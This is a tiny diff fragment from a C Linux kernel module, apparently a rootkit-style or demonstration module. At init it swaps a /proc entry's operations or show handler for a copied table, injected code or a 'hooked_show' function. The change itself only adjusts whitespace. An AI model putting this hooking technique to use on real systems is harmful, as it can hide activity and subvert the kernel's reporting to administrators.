@@ -46,7 +46,7 @@ static int __init start(void)
 		place = (void **)(entry + (HOW("table") ? ops_offset : show_offset));
 		original = *place;
 		copy = *(struct proc_ops *)*(void **)(entry + ops_offset);
-		*place = HOW("table")    ? (void *)&copy
+		*place = HOW("table")	 ? (void *)&copy
 			 : HOW("nobody") ? NOBODY_START(code, sizeof(code))
 					 : (void *)hooked_show;
 		return 0;
